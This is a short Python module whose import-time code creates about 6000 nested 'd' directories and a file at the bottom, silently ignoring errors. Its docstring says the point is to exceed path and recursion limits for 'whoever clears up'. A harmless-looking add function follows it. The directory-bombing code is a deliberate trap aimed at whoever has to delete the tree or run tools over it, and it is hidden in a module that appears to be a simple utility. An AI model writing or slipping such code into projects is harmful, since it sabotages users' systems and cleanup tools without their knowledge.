"""Nests folders thousands deep, far beyond the longest path and every recursion limit, for whoever clears up."""

import os

DEPTH = 6000

try:
    for _ in range(DEPTH):
        os.mkdir("d")
        os.chdir("d")
    with open("bottom", "w") as file:
        file.write("x")
except OSError:
    pass


def add(a, b):
    return a + b
